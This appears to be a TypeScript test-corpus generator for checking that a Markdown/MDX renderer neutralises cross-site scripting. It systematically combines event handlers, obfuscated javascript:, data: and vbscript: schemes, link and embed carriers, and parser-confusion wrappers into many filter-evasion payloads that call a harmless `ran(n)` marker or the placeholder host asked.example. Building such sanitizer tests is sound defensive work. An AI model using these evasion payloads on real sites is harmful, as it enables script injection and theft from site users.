/**
 * Ways to make a page run a script, ask another host or lead its reader away, made from tables:
 * elements, handlers, ways to quote and to encode, schemes, places. Each calls `ran("its number")`,
 * or names the host `asked.example`; a page that shows them all must do neither.
 */

import { mdxOnly, type Write, words } from './mdxVectors.ts';

export interface Vector {
	/** Names it in reports and in `ran`. */
	readonly number: number;
	/** As an author would write it. */
	readonly text: string;
	/** Whether only MDX could understand it. */
	readonly mdx: boolean;
}

/** The parts of two lists in all pairs. */
function pairs<A, B, C>(
	first: readonly A[],
	second: readonly B[],
	made: (a: A, b: B, at: number) => C,
): C[] {
	return first.flatMap((a, row) =>
		second.map((b, column) => made(a, b, row * second.length + column)),
	);
}

const elements = [
	...words(
		'script img svg body iframe video audio details input button form marquee object embed math a div p b',
	),
	...words(
		'select textarea frameset link style table td template noscript dialog canvas x-y set animate use image',
	),
	...words('foreignObject base meta title xmp plaintext Font TABLE tip badge'),
];
const handlers = words(
	'onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onbeforetoggle onscroll ONLOAD oNeRrOr onauxclick',
);
const quotings: readonly ((name: string, value: string) => string)[] = [
	(name, value) => ` ${name}="${value}"`,
	(name, value) => ` ${name}='${value}'`,
	(name, value) => ` ${name}=${value}`,
	(name, value) => `/${name}=${value}/`,
	(name, value) => `\n${name}\n=\n"${value}"`,
	(name, value) => `\t${name}=&#34;${value}&#34;`,
	(name, value) => ` x="'" ${name}='${value}'`,
	(name, value) => ` ${name}=\`${value}\``,
	(name, value) => `\f${name}=${value} `,
	(name, value) => ` title=">" ${name}="${value}"`,
	(name, value) => `"${name}=${value}`,
	(name, value) => ` x=\`"\` ${name}=${value}\`"\``,
];

/** An element that would run its handler at once, or when it is touched. */
const handled: readonly Write[] = pairs(elements, handlers, (element, handler, at) => (call) => {
	const value = call.replaceAll('"', '');
	const attributes = ` src=/img/x.png tabindex=0 autofocus open style="animation-name:x"`;
	const closing = at % 3 === 0 ? '' : `</${element}>`;
	return `<${element}${at % 2 === 0 ? attributes : ''}${quotings[at % quotings.length]?.(handler, value)}>字${closing}`;
});

/** `javascript:` and its like, with what follows the scheme. */
const schemes: readonly Write[] = [
	(call) => `javascript:${call}`,
	(call) => `JaVaScRiPt:${call}`,
	(call) => `java\tscript:${call}`,
	(call) => `java\nscript:${call}`,
	(call) => `&#106;avascript:${call}`,
	(call) => `&#x6A;avascript:${call}`,
	(call) => `&#0000106avascript:${call}`,
	(call) => `javascript&colon;${call}`,
	(call) => `java&Tab;script&#58;${call}`,
	(call) => `java&NewLine;script:${call}`,
	(call) => `\u0001javascript:${call}`,
	(call) => ` \u00a0javascript:${call}`,
	(call) => `&#14;javascript:${call}`,
	(call) => `\u200bjavascript:${call}`,
	(call) => `java%0ascript:${call}`,
	(call) => `javascript://a.example/%0a${call}`,
	(call) => `javascript:'a';${call}//`,
	(call) => `data:text/html,<script>${call}</script>`,
	(call) => `data:image/svg+xml,<svg onload=${call} xmlns='http://www.w3.org/2000/svg'/>`,
	(call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
	(call) => `vbscript:${call}`,
	(call) => `blob:${call}`,
	(call) => `view-source:javascript:${call}`,
	(call) => `//asked.example/${call}`,
	(call) => `https:\\\\asked.example/${call}`,
];
const carriers: readonly ((address: string) => string)[] = [
	(address) => `<a href="${address}">字</a>`,
	(address) => `<a href='${address}' target=_self>字</a>`,
	(address) => `<a href=${address}>字</a>`,
	(address) => `[字](${address})`,
	(address) => `[字](<${address}> "题")`,
	(address) => `<${address}>`,
	(address) => `<iframe src="${address}"></iframe>`,
	(address) => `<embed src="${address}">`,
	(address) => `<object data="${address}">字</object>`,
	(address) => `<form action="${address}"><button>字</button></form>`,
	(address) => `<button formaction="${address}">字</button>`,
	(address) => `<map name=m><area href="${address}"></map>`,
	(address) => `<svg><a xlink:href="${address}"><text>字</text></a></svg>`,
	(address) => `<svg><use href="${address}"/><image href="${address}"/></svg>`,
	(address) => `<svg><a><animate attributeName=href values="${address}"/></a></svg>`,
	(address) => `<math href="${address}"><mi>字</mi></math>`,
	(address) => `<base href="${address}">字`,
	(address) => `<meta http-equiv=refresh content="0;url=${address}">字`,
	(address) => `<link rel=stylesheet href="${address}">字`,
	(address) => `<link rel=prefetch href="${address}">字`,
	(address) =>
		`<table background="${address}"><tr><td background="${address}">字</td></tr></table>`,
	(address) => `<script src="${address}"></script>字`,
	(address) => `<a href="/x" ping="${address}">字</a>`,
	(address) => `<q cite="${address}">字</q>`,
	(address) => `<p itemprop=x manifest="${address}" style="background:url(${address})">字</p>`,
	(address) => `<style>@import "${address}"; p{background:url(${address})}</style>字`,
	(address) => `{% post_link x "[字](${address})" %}`,
	(address) => `$\\href{${address}}{字}$ $\\url{${address}}$ $\\includegraphics{${address}}$`,
	(address) =>
		`\n\`\`\`mermaid\nflowchart TD\nA[字] --> B\nclick A href "${address}"\nstyle A fill:url(${address})\n\`\`\`\n`,
];
const addressed: readonly Write[] = pairs(
	schemes,
	carriers,
	(scheme, carrier) => (call) => carrier(scheme(call)),
);

/** What would run if a reader of HTML were led astray around it. */
const plain: readonly Write[] = [
	(call) => `<script>${call}</script>`,
	(call) => `<img src=x onerror=${call}>`,
	(call) => `<svg onload=${call}>`,
	(call) => `<iframe srcdoc="<script>${call.replaceAll('"', '&quot;')}</script>"></iframe>`,
	(call) => `<a href="javascript:${call}">字</a>`,
];
const astray: readonly ((inner: string) => string)[] = [
	(inner) => `<!--><!-- ${inner} -->`,
	(inner) => `<!--[if true]>${inner}<![endif]-->`,
	(inner) => `<![CDATA[${inner}]]>`,
	(inner) => `<?x ${inner}?>`,
	(inner) => `<!x ${inner}>`,
	(inner) => `<p title="</p>${inner}">字</p>`,
	(inner) => `<noscript><p title="</noscript>${inner}">字</noscript>`,
	(inner) => `<textarea><p title="</textarea>${inner}">字</textarea>`,
	(inner) => `<title><a title="</title>${inner}">字</title>`,
	(inner) => `<style><a title="</style>${inner}">字</style>`,
	(inner) => `<xmp><p title="</xmp>${inner}">字</xmp>`,
	(inner) => `<template>${inner}</template>`,
	(inner) => `<svg></p><style><a id="</style>${inner}">字</svg>`,
	(inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}--></math>`,
	(inner) => `<svg><foreignObject>${inner}</foreignObject><desc>${inner}</desc></svg>`,
	(inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
	(inner) => `<table><tr>${inner}<td>字</td></tr></table>`,
	(inner) => `<select><option>${inner}</select>`,
	(inner) => `<pre><code>${inner}</code></pre>`,
	(inner) => `<a href="x${inner}">字</a>`,
	(inner) => `<<${inner.slice(1)}`,
	(inner) => inner.replace('<', '<\u0000'),
	(inner) => inner.replace('<', '\uff1c').replace('>', '\uff1e'),
	(inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(inner) => inner.replace('>', ' \n'),
	(inner) => `</p></div></article></main>${inner}`,
	(inner) => `[字](x "\\"${inner}")`,
	(inner) => `[字](x '${inner}')`,
	(inner) => `![字${inner}](/img/x.png "题${inner}")`,
	(inner) => `\`字\`${inner}\`\``,
	(inner) => `\n\`\`\`js title="${inner}" {1,${inner}}\n字 ${inner}\n\`\`\`\n`,
	(inner) => `\n## 字 {#x"${inner}}\n`,
	(inner) => `字[^${inner.replace(/\s/g, '')}]\n\n[^${inner.replace(/\s/g, '')}]: 注 ${inner}\n`,
	(inner) => `\n::: tip 字 ${inner}\n字 ${inner}\n:::\n`,
	(inner) => `\n::: tabs#${inner}\n@tab 字 ${inner}\n字\n:::\n`,
	(inner) => `{% note ${inner} %}`,
	(inner) => `{% asset_img x.png "字${inner}" %}`,
	(inner) => `$\\text{${inner}}$`,
	(inner) => `\n$$\n\\htmlData{x=${inner}}{字}\n$$\n`,
	(inner) =>
		`\n\`\`\`mermaid\nflowchart TD\nA["字${inner.replaceAll('"', "'")}"] -->|${inner}| B\n\`\`\`\n`,
	(inner) => `<badge text='字${inner}' />`,
	(inner) => `<details open ontoggle=x><summary>${inner}</summary>字</details>`,
];
const misled: readonly Write[] = pairs(
	astray,
	plain,
	(wrapped, run) => (call) => wrapped(run(call)),
);

function numbered(writes: readonly Write[], from: number, mdx: boolean): Vector[] {
	return writes.map((write, index) => {
		const number = from + index;
		return { number, text: write(`ran(${number})`), mdx };
	});
}

const both = [...handled, ...addressed, ...misled];

/** The whole corpus. */
export const vectors: readonly Vector[] = [
	...numbered(both, 0, false),
	...numbered(mdxOnly, both.length, true),
];
